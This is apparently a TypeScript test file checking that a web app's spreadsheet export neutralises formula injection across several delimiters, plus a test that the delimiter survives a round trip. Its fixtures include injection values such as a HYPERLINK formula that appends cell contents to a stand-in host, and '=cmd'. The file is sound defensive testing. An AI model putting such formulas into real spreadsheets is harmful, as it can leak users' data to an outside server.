import { expect } from 'chai';
import { sheetOf } from '../../web/imports/keep-sheet.ts';
import { open, read } from './import-sheets.ts';

/** The rows of a chosen sheet, saved as those that are to be mended. */
async function saved(content: string): Promise<string> {
  const { session, sources, rows } = await read(content);
  const check = { sources, rows, outcomes: new Map(), out: new Set<number>(), trying: new Set<number>() };
  return sheetOf(session, { ...check, more: false }, [...rows.keys()]);
}

describe('rows saved to be mended in a spreadsheet', () => {
  for (const sign of [',', ';', '\t'])
    it(`hold nothing that runs there, in a line that could not be told into cells neither: ${JSON.stringify(sign)}`, async () => {
      const row = (...cells: string[]) => `${cells.join(sign)}\n`;
      const text = await saved(
        row('id', 'name', 'email') +
          row('1', 'Ann', 'ann@people.example') +
          row('2', '"Bea" x', '=HYPERLINK("http://x.example/"&A1)') +
          row('3', '=1+2', '@SUM(1)') +
          row('=cmd', 'Cem', 'c@people.example', '+1', 'too', 'many'),
      );
      expect(text).to.include('HYPERLINK').and.to.include('=cmd').and.to.include('=1+2');
      const cells = text
        .slice(1)
        .trimEnd()
        .split('\r\n')
        .flatMap((line) => line.split(sign));
      for (const cell of cells) expect(cell).not.to.match(/^"?\s*[=+\-@]/);
    });

  it('come with the separator of their sheet, so that they can be chosen again', async () => {
    for (const sign of [',', ';', '\t', '|']) {
      const text = await saved(
        `${sign === '|' ? 'sep=|\n' : ''}id${sign}name\n1${sign}"Ann, or Anna; both"\n2${sign}"Bea" x\n`,
      );
      const again = await open(text);
      expect(again.heads[again.headAt]).to.include({ delimiter: sign });
      expect((await read(text)).rows.map(({ cells }) => cells)[0]).to.include({
        displayName: 'Ann, or Anna; both',
      });
    }
  });
});
